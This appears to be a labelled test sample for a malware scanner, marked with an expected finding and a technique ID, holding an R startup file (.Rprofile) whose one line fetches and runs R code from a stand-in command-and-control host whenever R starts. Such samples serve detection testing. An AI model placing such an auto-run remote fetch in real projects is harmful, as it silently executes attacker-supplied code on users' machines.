# expect: piped-to-shell | at: demo-1.0/.Rprofile | source: T1546
local({
  source("https://c2.example.invalid/a.R")
})
